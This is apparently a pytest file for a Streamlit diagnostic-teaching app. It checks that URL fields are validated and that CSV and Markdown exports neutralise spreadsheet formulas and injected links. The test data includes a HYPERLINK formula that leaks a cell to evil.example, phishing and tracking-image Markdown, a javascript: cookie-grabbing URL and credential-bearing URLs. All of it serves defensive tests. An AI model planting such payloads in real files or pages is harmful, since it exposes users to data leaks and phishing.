"""URLs and text from the tables, in pages and exports (issue 11): URL fields are validated, the About page links
through one safe path, and the handout and CSV downloads cannot carry active Markdown or spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
import yaml
from hostile_inputs import active_markdown, app_link_targets, unsafe_html_defects
from streamlit.testing.v1 import AppTest

from checker import Query, TableError, load_knowledge, rank, teaching
from checker.report import markdown_handout, results_csv

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for results")'
ACTIVE_NAME = "Gastrinoma [Log in](https://evil.example/login) www.evil-login.example ![](https://evil.example/p.png)"


def _copy(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    shutil.copytree(ROOT / "rules", folder)
    return folder


def _set_source_url(folder: Path, source_id: str, url: str) -> None:
    path = folder / "sources.yaml"
    lines = path.read_text(encoding="utf-8").splitlines()
    start = lines.index(f"- id: {source_id}")
    for index in range(start + 1, len(lines)):
        if lines[index].startswith("- id: "):
            lines.insert(index, f"  url: {yaml.safe_dump(url, default_style=chr(34)).strip()}")
            break
        if lines[index].startswith("  url:"):
            lines[index] = f"  url: {yaml.safe_dump(url, default_style=chr(34), width=10_000).strip()}"
            break
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _url_problems(folder: Path) -> list[str]:
    with pytest.raises(TableError) as info:
        load_knowledge(folder)
    return [str(p) for p in info.value.problems if p.field == "url"]


@pytest.mark.parametrize(
    ("source_id", "url", "message"),
    [
        ("seed-000", "javascript:alert(document.cookie)", "URL must start with https://"),
        ("seed-001", "http://example.org/seed", "URL must start with https://"),
        ("page-cuh-menopause-signs-symptoms", "https://www.cuh.nhs.uk/a\nInjected: line", "whitespace or control"),
        ("page-cuh-menopause-signs-symptoms", "https://www.cuh.nhs.uk/a b", "whitespace or control"),
        ("page-cuh-menopause-signs-symptoms", "http://www.cuh.nhs.uk/", "URL must start with https://"),
        ("hpo-2025-01-16", "javascript:alert(1)", "URL must start with https:// or http://"),
        ("orphanet-hpoa-2025-01-16", "https://user:pw@evil.example/", "user name or password"),
    ],
    ids=[
        "seed-javascript",
        "seed-http",
        "page-newline",
        "page-space",
        "page-http",
        "ontology-javascript",
        "annotation-credentials",
    ],
)
def test_bad_source_url_is_a_table_error(source_id: str, url: str, message: str, tmp_path: Path) -> None:
    folder = _copy(tmp_path)
    _set_source_url(folder, source_id, url)
    problems = _url_problems(folder)
    assert len(problems) == 1 and message in problems[0] and problems[0].startswith("rules/sources.yaml:"), problems


def test_every_shipped_page_and_seed_url_is_https_and_public() -> None:
    rows = yaml.safe_load((ROOT / "rules" / "sources.yaml").read_text(encoding="utf-8"))
    bad = [row["id"] for row in rows if row.get("url") and not row["url"].startswith("https://")]
    assert not bad
    proxied = [row["id"] for row in rows if "proxy" in row.get("url", "") or "ezproxy" in row.get("url", "")]
    assert not proxied


def _poisoned_kb(tmp_path: Path):  # type: ignore[no-untyped-def]
    folder = _copy(tmp_path)
    text = (folder / "types.yaml").read_text(encoding="utf-8")
    line = next(x for x in text.splitlines() if x.startswith("  name: ") and "Gastrinoma" in x)
    text = text.replace(line, f"  name: {yaml.safe_dump(ACTIVE_NAME, width=10_000).strip().splitlines()[0]}", 1)
    line = next(x for x in text.splitlines() if x.startswith("  name: ") and "Insulinoma" in x)
    text = text.replace(line, f"  name: '{FORMULA.replace(chr(39), chr(39) * 2)}'", 1)
    (folder / "types.yaml").write_text(text, encoding="utf-8")
    _set_source_url(folder, "hpo-2025-01-16", "https://evil.example/x)![](https://evil.example/pixel.png")
    kb = load_knowledge(folder)
    assert kb.types["insulinoma"].name == FORMULA and kb.types["gastrinoma"].name == ACTIVE_NAME
    return folder, kb


def test_csv_downloads_neutralise_formulas(tmp_path: Path) -> None:
    """A type name starting with =HYPERLINK( went unchanged into the CSV downloads."""
    _, kb = _poisoned_kb(tmp_path)
    result = rank(kb, Query(present=("low-blood-glucose", "recurrent-peptic-ulcers")))
    cells = [cell for row in csv.reader(io.StringIO(results_csv(kb, result))) for cell in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    for name, frame in {
        **teaching.table_frames(kb),
        "bibliography": teaching.bibliography_frame(kb),
        "compare": teaching.compare_frame(kb, "insulinoma", "gastrinoma"),
    }.items():
        cells = [cell for row in csv.reader(io.StringIO(teaching.frame_csv(frame))) for cell in row]
        bad = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
        assert not bad, (name, bad[:3])


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_handout_has_no_active_markdown_from_the_tables(tmp_path: Path) -> None:
    _, kb = _poisoned_kb(tmp_path)
    result = rank(kb, Query(present=("low-blood-glucose", "recurrent-peptic-ulcers")))
    handout = markdown_handout(kb, result)
    assert "Gastrinoma" in handout
    assert active_markdown(handout, app_link_targets(kb)) == []


def test_about_page_links_table_urls_through_one_safe_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The About page put the ontology source URL raw into Markdown: an injected image was fetched."""
    folder, kb = _poisoned_kb(tmp_path)
    monkeypatch.setenv("NET_CHECKER_RULES", str(folder))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("app_pages/about.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert not unsafe_html_defects(at, allowed_targets=app_link_targets(kb))


def test_grids_on_the_pages_are_formula_safe(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Streamlit's grid has its own "Download as CSV": what a page shows in a grid must already be safe."""
    folder, _ = _poisoned_kb(tmp_path)
    monkeypatch.setenv("NET_CHECKER_RULES", str(folder))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("app_pages/rule_tables.py").run()
    at.selectbox(key="rt_table").set_value("types").run()
    assert not at.exception, [e.value for e in at.exception]
    cells = [str(v) for grid in at.dataframe for v in grid.value.to_numpy().ravel()]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a grid cell would start a formula"
